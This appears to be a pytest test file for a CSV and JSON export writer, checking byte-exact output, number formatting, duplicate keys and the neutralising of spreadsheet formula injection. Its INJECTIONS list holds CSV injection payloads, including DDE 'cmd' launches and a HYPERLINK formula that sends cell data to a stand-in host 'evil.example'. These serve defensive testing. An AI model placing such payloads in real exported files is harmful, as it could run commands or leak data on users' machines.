"""The same rows give the same bytes, numbers stay numbers, and no text cell runs (rules 11.1, 12.3)."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tokengov_pipelines.pack.writer import TEXT_LIMIT, Column, Kind, PackError, csv_bytes, json_bytes, neutralised

COLUMNS = [Column("code"), Column("amount", Kind.DECIMAL, 2), Column("rows", Kind.INTEGER), Column("day", Kind.DATE)]


def write(*rows, key=("code",)):
    return csv_bytes(COLUMNS, rows, key)


def test_a_file_is_utf8_lf_quoted_and_sorted():
    written = write(
        ["CC-200", Decimal("-80"), 3, dt.date(2026, 10, 5)],
        ['CC-100, "Köln"', Decimal("1234567.5"), None, None],
    )
    assert written == ('code,amount,rows,day\n"CC-100, ""Köln""",1234567.50,,\nCC-200,-80.00,3,2026-10-05\n'.encode())


def test_numbers_in_the_key_sort_as_numbers():
    columns = [Column("line_no", Kind.INTEGER)]
    assert csv_bytes(columns, [[10], [9], [1]], ["line_no"]) == b"line_no\n1\n9\n10\n"


def test_negative_numbers_are_never_touched_and_negative_zero_is_zero():
    written = write(["a", Decimal("-0.00"), -1, None], ["b", Decimal("-80.00"), 0, None]).decode()
    assert written.splitlines()[1:] == ["a,0.00,-1,", "b,-80.00,0,"]


@pytest.mark.parametrize(
    "row",
    [
        ["a", 1.5, 1, None],
        ["a", Decimal("1.005"), 1, None],
        ["a", Decimal("NaN"), 1, None],
        ["a", "=1+1", 1, None],
        ["a", Decimal(1), True, None],
        ["a", Decimal(1), Decimal(1), None],
        [5, Decimal(1), 1, None],
        ["a", Decimal(1), 1, dt.datetime(2026, 10, 5, tzinfo=dt.UTC)],
    ],
)
def test_a_value_that_does_not_fit_its_column_is_refused(row):
    with pytest.raises(PackError):
        write(row)


def test_two_rows_with_one_key_are_refused():
    with pytest.raises(PackError, match="two rows have the same code: a"):
        write(["a", Decimal(1), 1, None], ["a", Decimal(2), 2, None])


def test_two_keys_that_would_be_written_alike_are_refused():
    with pytest.raises(PackError, match="two rows have the same code: ab"):
        write(["ab", Decimal(1), 1, None], ["a\x01b", Decimal(2), 2, None])


# OWASP and CWE-1236 payloads, and the ways to hide a trigger
INJECTIONS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '=IMPORTXML(CONCAT(A1),"//a")',
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "\x01=1+1",
    "\x1b\x7f=1+1",
    " =1+1",
    "   \t  =1+1",
    "\xa0=1+1",
    "\u3000@SUM(1)",
    "\ufeff=1+1",
    "\u200b+1",
    " \u200d \ufeff -1",
    "\u2028=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\t",
    "-",
    "=",
    "\tplain",
]


@pytest.mark.parametrize("text", INJECTIONS)
def test_an_injection_is_led_by_an_apostrophe(text):
    assert neutralised(text).startswith("'")
    written = csv_bytes([Column("name")], [[text]], ["name"]).decode()
    (cell,) = list(csv.reader(io.StringIO(written, newline="")))[1]
    assert cell.startswith("'")


@pytest.mark.parametrize(
    "text", ["", "CC-100", "a=b", "R&D +1", "Köln", "e-mail@acme.example", "'quoted'", "100%", "  x"]
)
def test_ordinary_text_stays_as_it_is(text):
    assert neutralised(text) == text


def test_control_characters_go_and_long_text_is_cut():
    assert neutralised("a\x00b\x1fc\nd") == "abcd"
    assert len(neutralised("x" * 5000)) == TEXT_LIMIT
    assert len(neutralised("=" * 5000)) == TEXT_LIMIT


@given(st.text())
def test_no_text_ever_starts_with_a_trigger_and_every_file_reads_back(text):
    safe = neutralised(text)
    assert safe.lstrip()[:1] not in set("=+-@\t\r\n\0＝＋－＠") - {""}
    assert not any(ord(character) < 0x20 for character in safe)
    written = csv_bytes([Column("name"), Column("n", Kind.INTEGER)], [[text, 1]], ["name"])
    rows = list(csv.reader(io.StringIO(written.decode("utf-8"), newline="")))
    assert rows[1][0] == safe.encode("utf-8", "replace").decode()


def test_json_keeps_the_order_it_was_given():
    assert json_bytes({"b": "ü", "a": [1, None]}) == '{\n  "b": "ü",\n  "a": [\n    1,\n    null\n  ]\n}\n'.encode()
    with pytest.raises(ValueError, match="JSON"):
        json_bytes({"a": float("nan")})
